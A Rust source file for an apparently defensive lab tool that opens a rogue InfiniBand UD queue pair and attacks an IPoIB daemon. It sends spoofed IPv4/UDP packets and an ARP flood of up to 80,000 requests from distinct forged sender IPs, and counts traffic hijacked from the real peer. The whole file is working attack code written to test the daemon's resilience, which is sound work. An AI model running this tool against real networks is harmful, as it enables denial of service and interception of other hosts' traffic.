//! A hostile UD sender for the lab: opens its own UD QP on a real device (through the
//! crate's public verbs API) and sends crafted IPoIB packets at a daemon, to show what a
//! rogue QP on a peer's host can do to it.
//!
//! ```text
//! # valid IPv4/UDP packets from the rogue QP (source GID = this host's GID, the same as
//! # the real peer's), 100 a second for 20 s, to the victim daemon's GID + QPN:
//! rogue_ud --dest-gid ::ffff:198.18.0.1 --dest-qpn 17 ipv4 --rate 100 --seconds 20 \
//!     --src 198.18.1.2 --dst 198.18.1.1
//! # 80,000 IPoIB ARP requests, each from a distinct sender IP, to the victim (unicast)
//! # or to the broadcast group (--broadcast):
//! rogue_ud --dest-gid ::ffff:198.18.0.1 --dest-qpn 17 arp-flood --count 80000 \
//!     --rate 2000 --victim 198.18.1.1
//! ```
//! Every packet starts with the 4-byte IPoIB header and is sent with the daemon's Q_Key
//! (default: the daemon's default, 0x0B1B). The sender is paced (`--rate` packets a
//! second, at most `--slots` in flight: a slot is reused only after its send completed),
//! and posts each due batch as one chain. It keeps receives posted and counts what
//! arrives (traffic the victim meant for the real peer lands here once the victim takes
//! this QP for the peer). `--delay` waits that long between opening the QP and the first
//! send (the lab starts the stream under attack first).
//!
//! The last line of standard output is `RESULT ok` (every packet was posted and every
//! send completed successfully) or `RESULT FAILED`. `--json FILE` writes the counts:
//! packets posted, sends completed (ok / with an error), what rate was reached, what was
//! received. `--ready-file FILE` gets `qpn gid` once the QP is up.

use std::net::Ipv4Addr;
use std::path::PathBuf;
use std::process::ExitCode;
use std::time::{Duration, Instant};

#[path = "common/cli.rs"]
mod cli;
use clap::{Parser, Subcommand};
use serde_json::json;
use uipoib::runtime::config::{DEFAULT_GROUP, DEFAULT_QKEY};
use uipoib::verbs::rdma::{RdmaEndpoint, RdmaProvider};
use uipoib::verbs::{
    Completion, CqKind, Dest, Endpoint, GRH_LEN, Gid, MULTICAST_QPN, SendWr, WcStatus,
};
use uipoib::wire::arp::{IpoibArp, OP_REQUEST};
use uipoib::wire::ipoib::{self, IpoibAddr};
use uipoib::wire::{ETHERTYPE_ARP, ETHERTYPE_IPV4, ipv4};

#[derive(Parser, Debug)]
#[command(about = "Hostile IPoIB sender on its own UD QP (lab tool)")]
struct Args {
    #[command(flatten)]
    dev: cli::Device,
    /// Q_Key to send with (and of this QP), decimal or 0x-hex.
    #[arg(long, value_parser = parse_u32, default_value_t = DEFAULT_QKEY)]
    qkey: u32,
    /// Destination GID (unicast), e.g. ::ffff:198.18.0.1.
    #[arg(long, conflicts_with = "broadcast")]
    dest_gid: Option<Gid>,
    /// Destination QPN (unicast), decimal or 0x-hex.
    #[arg(long, value_parser = parse_u32, conflicts_with = "broadcast")]
    dest_qpn: Option<u32>,
    /// Send to the broadcast group (QPN 0xFFFFFF) instead; this QP attaches to it first.
    #[arg(long)]
    broadcast: bool,
    /// The broadcast group (IPv4 multicast address or multicast GID).
    #[arg(long, default_value_t = Gid::from_ipv4(DEFAULT_GROUP))]
    group: Gid,
    /// Send (and receive) slots: at most this many sends in flight.
    #[arg(long, default_value_t = 64)]
    slots: u32,
    /// Write the results here as JSON.
    #[arg(long)]
    json: Option<PathBuf>,
    /// Write "QPN GID" here once the QP is ready.
    #[arg(long)]
    ready_file: Option<PathBuf>,
    /// Wait this long after the QP is ready before the first send (seconds).
    #[arg(long, default_value_t = 0.0)]
    delay: f64,
    /// Keep receiving this long after the last send completed (seconds).
    #[arg(long, default_value_t = 1.0)]
    linger: f64,
    #[command(subcommand)]
    mode: Mode,
}

#[derive(Subcommand, Debug)]
enum Mode {
    /// Valid IPv4/UDP packets.
    Ipv4 {
        /// Packets a second.
        #[arg(long, default_value_t = 100.0)]
        rate: f64,
        /// For this long.
        #[arg(long, default_value_t = 10.0)]
        seconds: f64,
        /// IPv4 source address written into the packets.
        #[arg(long)]
        src: Ipv4Addr,
        /// IPv4 destination address.
        #[arg(long)]
        dst: Ipv4Addr,
        /// UDP source port.
        #[arg(long, default_value_t = 40_000)]
        sport: u16,
        /// UDP destination port (9, discard, by default: nothing listens there).
        #[arg(long, default_value_t = 9)]
        dport: u16,
        /// UDP payload bytes.
        #[arg(long, default_value_t = 32)]
        payload: u16,
    },
    /// IPoIB ARP requests (hardware type 32), each with a distinct sender IP.
    ArpFlood {
        /// Requests to send.
        #[arg(long, default_value_t = 80_000)]
        count: u32,
        /// Requests a second.
        #[arg(long, default_value_t = 2000.0)]
        rate: f64,
        /// The victim's address: every `--victim-every`-th request asks for it; the
        /// others ask for addresses nobody owns.
        #[arg(long)]
        victim: Ipv4Addr,
        /// How often the target is the victim's address.
        #[arg(long, default_value_t = 8)]
        victim_every: u32,
        /// Sender IPs: distinct, counting up from this address (skipping .0, .255 and
        /// the --avoid addresses); the first ones lie in the victim's /24, the rest
        /// outside it.
        #[arg(long, default_value = "198.18.1.3")]
        first_spa: Ipv4Addr,
        /// Last usable sender IP (inclusive).
        #[arg(long, default_value = "198.19.255.254")]
        last_spa: Ipv4Addr,
        /// Sender IPs never used (the real hosts' addresses).
        #[arg(long, value_delimiter = ',', default_value = "198.18.1.1,198.18.1.2")]
        avoid: Vec<Ipv4Addr>,
        /// Sender QPN written into the requests' sha (default: this QP's own).
        #[arg(long, value_parser = parse_u32)]
        sha_qpn: Option<u32>,
    },
}

fn parse_u32(s: &str) -> Result<u32, String> {
    let r = match s.strip_prefix("0x").or_else(|| s.strip_prefix("0X")) {
        Some(h) => u32::from_str_radix(h, 16),
        None => s.parse(),
    };
    r.map_err(|e| format!("{s:?} is not a number: {e}"))
}

/// Send work-request ids carry this bit; receive ids are the slot number.
const SEND_TAG: u64 = 1 << 63;
/// Most sends posted as one chain.
const CHAIN: usize = 16;

/// What one packet is, built into a send slot.
trait Packets {
    /// Packets in total (`None`: until the time is up).
    fn total(&self) -> Option<u64>;
    /// Write packet `i` into `buf`; returns its length.
    fn build(&self, i: u64, buf: &mut [u8]) -> Result<usize, String>;
}

struct Udp {
    src: Ipv4Addr,
    dst: Ipv4Addr,
    sport: u16,
    dport: u16,
    payload: u16,
}

impl Packets for Udp {
    fn total(&self) -> Option<u64> {
        None
    }
    fn build(&self, i: u64, buf: &mut [u8]) -> Result<usize, String> {
        let ip_len = 20 + 8 + usize::from(self.payload);
        let len = ipoib::HEADER_LEN + ip_len;
        if len > buf.len() {
            return Err(format!(
                "packet of {len} bytes exceeds the slot ({})",
                buf.len()
            ));
        }
        ipoib::emit_header(buf, ETHERTYPE_IPV4).map_err(|e| e.to_string())?;
        let ip = &mut buf[ipoib::HEADER_LEN..len];
        ip[0] = 0x45;
        ip[1] = 0;
        ip[2..4].copy_from_slice(&(ip_len as u16).to_be_bytes());
        ip[4..6].copy_from_slice(&(i as u16).to_be_bytes());
        ip[6..8].copy_from_slice(&0x4000u16.to_be_bytes()); // DF
        ip[8] = 64;
        ip[9] = 17;
        ip[10..12].fill(0);
        ip[12..16].copy_from_slice(&self.src.octets());
        ip[16..20].copy_from_slice(&self.dst.octets());
        let c = ipv4::checksum(&ip[..20]);
        ip[10..12].copy_from_slice(&c.to_be_bytes());
        let udp = &mut ip[20..];
        udp[0..2].copy_from_slice(&self.sport.to_be_bytes());
        udp[2..4].copy_from_slice(&self.dport.to_be_bytes());
        udp[4..6].copy_from_slice(&((8 + usize::from(self.payload)) as u16).to_be_bytes());
        udp[6..8].fill(0); // no UDP checksum (allowed over IPv4)
        for (j, b) in udp[8..].iter_mut().enumerate() {
            *b = (i as usize).wrapping_add(j) as u8;
        }
        Ok(len)
    }
}

struct Arp {
    count: u32,
    victim: Ipv4Addr,
    victim_every: u32,
    spas: Vec<Ipv4Addr>,
    sha: IpoibAddr,
}

impl Arp {
    fn sender_ips(
        count: u32,
        first: Ipv4Addr,
        last: Ipv4Addr,
        avoid: &[Ipv4Addr],
    ) -> Result<Vec<Ipv4Addr>, String> {
        let mut out = Vec::with_capacity(count as usize);
        let mut a = u32::from(first);
        let end = u32::from(last);
        while out.len() < count as usize {
            if a > end {
                return Err(format!(
                    "only {} distinct sender IPs between {first} and {last}, {count} asked",
                    out.len()
                ));
            }
            let ip = Ipv4Addr::from(a);
            let low = ip.octets()[3];
            if low != 0 && low != 255 && !avoid.contains(&ip) {
                out.push(ip);
            }
            a += 1;
        }
        Ok(out)
    }

    /// Target addresses nobody owns: one in the victim's /24, one outside.
    fn not_ours(&self, i: u64) -> Ipv4Addr {
        let v = self.victim.octets();
        if i.is_multiple_of(2) {
            Ipv4Addr::new(v[0], v[1], v[2], 250)
        } else {
            Ipv4Addr::new(198, 19, 255, 250)
        }
    }
}

impl Packets for Arp {
    fn total(&self) -> Option<u64> {
        Some(u64::from(self.count))
    }
    fn build(&self, i: u64, buf: &mut [u8]) -> Result<usize, String> {
        let tpa = if self.victim_every > 0 && i.is_multiple_of(u64::from(self.victim_every)) {
            self.victim
        } else {
            self.not_ours(i)
        };
        let a = IpoibArp {
            op: OP_REQUEST,
            sha: self.sha,
            spa: self.spas[i as usize],
            tha: IpoibAddr::ZERO,
            tpa,
        };
        ipoib::emit_header(buf, ETHERTYPE_ARP).map_err(|e| e.to_string())?;
        let n = a
            .emit(&mut buf[ipoib::HEADER_LEN..])
            .map_err(|e| e.to_string())?;
        Ok(ipoib::HEADER_LEN + n)
    }
}

#[derive(Default, Debug)]
struct Counts {
    posted: u64,
    send_ok: u64,
    send_err: u64,
    post_err: u64,
    last_error: Option<String>,
    rx_arp: u64,
    rx_ipv4: u64,
    rx_other: u64,
    rx_err: u64,
    first_send: Option<Instant>,
    last_completion: Option<Instant>,
}

struct Sender {
    ep: RdmaEndpoint,
    free: Vec<u32>,
    comps: Vec<Completion>,
    c: Counts,
}

impl Sender {
    /// Reap send completions and receives (receives are re-posted).
    fn drain(&mut self) -> Result<(), String> {
        loop {
            let m = self
                .ep
                .poll_cq(CqKind::Send, &mut self.comps)
                .map_err(|e| format!("poll send CQ: {e}"))?;
            for k in 0..m {
                let c = self.comps[k];
                if c.status == WcStatus::Success {
                    self.c.send_ok += 1;
                } else {
                    self.c.send_err += 1;
                    self.c.last_error = Some(format!("send completion {c:?}"));
                }
                self.free.push((c.wr_id & !SEND_TAG) as u32);
            }
            if m > 0 {
                self.c.last_completion = Some(Instant::now());
            }
            let n = self
                .ep
                .poll_cq(CqKind::Recv, &mut self.comps)
                .map_err(|e| format!("poll recv CQ: {e}"))?;
            for k in 0..n {
                let c = self.comps[k];
                let slot = c.wr_id as u32;
                if c.status != WcStatus::Success {
                    self.c.rx_err += 1;
                    continue; // a flushed receive: the QP is broken, nothing to re-post
                }
                let buf = self.ep.recv_buf(slot);
                let total = (c.byte_len as usize).min(buf.len());
                let off = if c.has_grh { GRH_LEN } else { 0 };
                match buf
                    .get(off..total)
                    .and_then(|p| ipoib::parse_header(p).ok())
                {
                    Some((ETHERTYPE_ARP, _)) => self.c.rx_arp += 1,
                    Some((ETHERTYPE_IPV4, _)) => self.c.rx_ipv4 += 1,
                    _ => self.c.rx_other += 1,
                }
                self.ep
                    .post_recv(c.wr_id, slot)
                    .map_err(|e| format!("post_recv: {e}"))?;
            }
            if n == 0 && m == 0 {
                return Ok(());
            }
        }
    }

    /// Post packets `first..first+count` (count <= free slots) as one chain.
    fn post(
        &mut self,
        pk: &dyn Packets,
        first: u64,
        count: usize,
        dest: Dest,
    ) -> Result<(), String> {
        let mut wrs = Vec::with_capacity(count);
        for k in 0..count {
            let Some(slot) = self.free.pop() else { break };
            let len = pk.build(first + k as u64, self.ep.send_buf(slot))?;
            wrs.push(SendWr {
                wr_id: SEND_TAG | u64::from(slot),
                slot,
                len: len as u32,
                dest,
                signaled: true,
            });
        }
        self.c.first_send.get_or_insert_with(Instant::now);
        match self.ep.post_send(&wrs) {
            Ok(()) => self.c.posted += wrs.len() as u64,
            Err(e) => {
                self.c.posted += e.posted as u64;
                self.c.post_err += 1;
                self.c.last_error = Some(format!("post_send: {e}"));
                for w in &wrs[e.posted..] {
                    self.free.push(w.slot);
                }
                // Packets not posted are not retried: the next due ones follow.
                self.c.post_err += (wrs.len() - e.posted - 1) as u64;
            }
        }
        Ok(())
    }
}

fn run(args: &Args) -> Result<serde_json::Value, String> {
    for (name, v) in [("--delay", args.delay), ("--linger", args.linger)] {
        if !(v.is_finite() && (0.0..=86_400.0).contains(&v)) {
            return Err(format!("{name} must be 0..86400 seconds, not {v}"));
        }
    }
    let provider = RdmaProvider::new();
    let cfg = args.dev.endpoint(args.qkey, args.slots);
    let ep = provider
        .open_endpoint(&cfg)
        .map_err(|e| format!("open {}: {e}", args.dev.device))?;
    let mut s = Sender {
        free: (0..args.slots).rev().collect(),
        ep,
        comps: vec![Completion::EMPTY; 64],
        c: Counts::default(),
    };
    for slot in 0..args.slots {
        s.ep.post_recv(u64::from(slot), slot)
            .map_err(|e| format!("post_recv: {e}"))?;
    }
    let (own_qpn, own_gid) = (s.ep.attrs().qpn, s.ep.attrs().gid);
    let dest = if args.broadcast {
        s.ep.attach_mcast(&args.group)
            .map_err(|e| format!("attach {}: {e}", args.group))?;
        let ah =
            s.ep.create_ah(&args.group)
                .map_err(|e| format!("create_ah {}: {e}", args.group))?;
        (
            Dest {
                ah,
                qpn: MULTICAST_QPN,
                qkey: args.qkey,
            },
            format!("group {} qpn {MULTICAST_QPN:#x}", args.group),
        )
    } else {
        let gid = args
            .dest_gid
            .ok_or("--dest-gid (and --dest-qpn) or --broadcast is required")?;
        let qpn = args
            .dest_qpn
            .ok_or("--dest-qpn is required with --dest-gid")?;
        let ah =
            s.ep.create_ah(&gid)
                .map_err(|e| format!("create_ah {gid}: {e}"))?;
        (
            Dest {
                ah,
                qpn,
                qkey: args.qkey,
            },
            format!("{gid} qpn {qpn}"),
        )
    };
    let (dest, dest_text) = dest;
    println!(
        "READY device={} qpn={own_qpn} gid={own_gid} qkey={:#x} mtu={} dest={dest_text}",
        args.dev.device,
        args.qkey,
        s.ep.attrs().port_mtu
    );
    if let Some(p) = &args.ready_file {
        std::fs::write(p, format!("{own_qpn} {own_gid}\n"))
            .map_err(|e| format!("write {}: {e}", p.display()))?;
    }

    let (pk, rate, seconds): (Box<dyn Packets>, f64, Option<f64>) = match &args.mode {
        Mode::Ipv4 {
            rate,
            seconds,
            src,
            dst,
            sport,
            dport,
            payload,
        } => (
            Box::new(Udp {
                src: *src,
                dst: *dst,
                sport: *sport,
                dport: *dport,
                payload: *payload,
            }),
            *rate,
            Some(*seconds),
        ),
        Mode::ArpFlood {
            count,
            rate,
            victim,
            victim_every,
            first_spa,
            last_spa,
            avoid,
            sha_qpn,
        } => (
            Box::new(Arp {
                count: *count,
                victim: *victim,
                victim_every: *victim_every,
                spas: Arp::sender_ips(*count, *first_spa, *last_spa, avoid)?,
                sha: IpoibAddr::new(sha_qpn.unwrap_or(own_qpn), own_gid),
            }),
            *rate,
            None,
        ),
    };
    if !(rate > 0.0 && rate.is_finite()) {
        return Err(format!("--rate must be a positive number, not {rate}"));
    }
    let total = match (pk.total(), seconds) {
        (Some(t), _) => t,
        (None, Some(secs)) => (rate * secs).round() as u64,
        (None, None) => 0,
    };

    let begin = Instant::now() + Duration::from_secs_f64(args.delay);
    while Instant::now() < begin {
        s.drain()?;
        std::thread::sleep(Duration::from_millis(5));
    }
    let start = Instant::now();
    let mut next: u64 = 0;
    let mut max_behind: u64 = 0;
    while next < total {
        s.drain()?;
        let due = ((start.elapsed().as_secs_f64() * rate) as u64 + 1).min(total);
        if due > next {
            max_behind = max_behind.max(due - next);
            let n = ((due - next) as usize).min(s.free.len()).min(CHAIN);
            if n > 0 {
                s.post(pk.as_ref(), next, n, dest)?;
                next += n as u64;
                continue;
            }
        }
        // Sleep until the next packet is due (at most 2 ms: completions are polled).
        let at = Duration::from_secs_f64(next as f64 / rate);
        let wait = at
            .saturating_sub(start.elapsed())
            .min(Duration::from_millis(2));
        std::thread::sleep(wait.max(Duration::from_micros(200)));
    }
    let sent_for = start.elapsed();
    // Wait for the outstanding completions, then linger for what comes back.
    let until = Instant::now() + Duration::from_secs(10);
    while s.free.len() < args.slots as usize && Instant::now() < until {
        s.drain()?;
        std::thread::sleep(Duration::from_millis(1));
    }
    let linger_until = Instant::now() + Duration::from_secs_f64(args.linger);
    while Instant::now() < linger_until {
        s.drain()?;
        std::thread::sleep(Duration::from_millis(5));
    }
    let c = &s.c;
    let span = match (c.first_send, c.last_completion) {
        (Some(a), Some(b)) if b > a => (b - a).as_secs_f64(),
        _ => 0.0,
    };
    let mode = match args.mode {
        Mode::Ipv4 { .. } => "ipv4",
        Mode::ArpFlood { .. } => "arp-flood",
    };
    let result = json!({
        "mode": mode,
        "device": args.dev.device,
        "qpn": own_qpn,
        "gid": own_gid.to_string(),
        "qkey": args.qkey,
        "dest": dest_text,
        "requested": total,
        "requested_rate": rate,
        "posted": c.posted,
        "post_errors": c.post_err,
        "send_ok": c.send_ok,
        "send_err": c.send_err,
        "not_completed": c.posted - c.send_ok - c.send_err,
        "posting_seconds": sent_for.as_secs_f64(),
        "completed_rate": if span > 0.0 { c.send_ok as f64 / span } else { 0.0 },
        "max_behind": max_behind,
        "rx_arp": c.rx_arp,
        "rx_ipv4": c.rx_ipv4,
        "rx_other": c.rx_other,
        "rx_errors": c.rx_err,
        "last_error": c.last_error,
    });
    println!(
        "{mode}: posted {}/{total} in {:.2}s ({} post errors), sends ok {} err {}, \
         {:.0}/s completed; received arp {} ipv4 {} other {}",
        c.posted,
        sent_for.as_secs_f64(),
        c.post_err,
        c.send_ok,
        c.send_err,
        result["completed_rate"].as_f64().unwrap_or(0.0),
        c.rx_arp,
        c.rx_ipv4,
        c.rx_other
    );
    if let Some(e) = &c.last_error {
        println!("last error: {e}");
    }
    drop(s);
    if provider.teardown_errors() != 0 {
        println!("teardown errors: {}", provider.teardown_errors());
    }
    Ok(result)
}

fn main() -> ExitCode {
    cli::init_tracing();
    let args = Args::parse();
    let (ok, result) = match run(&args) {
        Ok(r) => {
            let ok = r["posted"] == r["requested"]
                && r["send_ok"] == r["posted"]
                && r["post_errors"] == 0;
            (ok, r)
        }
        Err(e) => {
            println!("error: {e}");
            (false, json!({ "error": e }))
        }
    };
    if let Some(p) = &args.json
        && let Err(e) = std::fs::write(p, format!("{result:#}\n"))
    {
        println!("error: write {}: {e}", p.display());
        println!("RESULT FAILED");
        return ExitCode::FAILURE;
    }
    if ok {
        println!("RESULT ok");
        ExitCode::SUCCESS
    } else {
        println!("RESULT FAILED");
        ExitCode::FAILURE
    }
}
